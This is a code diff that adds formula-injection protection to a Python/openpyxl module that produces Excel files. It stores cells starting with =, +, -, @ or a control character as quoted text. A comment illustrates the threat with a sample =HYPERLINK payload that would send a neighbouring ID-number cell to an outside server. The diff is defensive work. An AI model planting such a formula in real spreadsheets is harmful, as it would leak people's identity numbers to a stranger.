@@ -30,6 +30,33 @@ HEADER_FILL = PatternFill("solid", fgColor="DCE6F2")
 REQUIRED_FONT = Font(bold=True, color="C00000")
 
 
+# A cell whose text starts with one of these is taken for a formula by Excel, WPS or LibreOffice when it is typed
+# (and "=" is stored as one by openpyxl): an applicant named =HYPERLINK("http://…?"&B2,"…") would become a live
+# link sending the cell next to it (the full ID number) to a stranger's server.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cell_as_text(cell) -> None:
+    """Keep a cell's value as the text it is when a spreadsheet could take it for a formula: stored as a string
+    (never a formula) and marked with Excel's quote prefix, so that editing the cell keeps it text too. The value
+    itself is unchanged (an import of the file reads back the same text)."""
+    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+
+
+def workbook_bytes(workbook: Workbook) -> bytes:
+    """The .xlsx bytes of a workbook the platform hands out. Every producer serialises through here, so that no
+    value it writes (names, units, titles, anything a person typed) reaches a reader as a formula."""
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                cell_as_text(cell)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
 class ExcelError(Exception):
     """The file as a whole cannot be imported; the message is Chinese."""
 
@@ -112,9 +139,7 @@ def template_bytes(columns: list[Column], *, title: str, notes: list[str] = (), 
         if column.help:
             hint += "；" + column.help
         guide.append([column.label, hint])
-    buffer = io.BytesIO()
-    workbook.save(buffer)
-    return buffer.getvalue()
+    return workbook_bytes(workbook)
 
 
 @dataclass
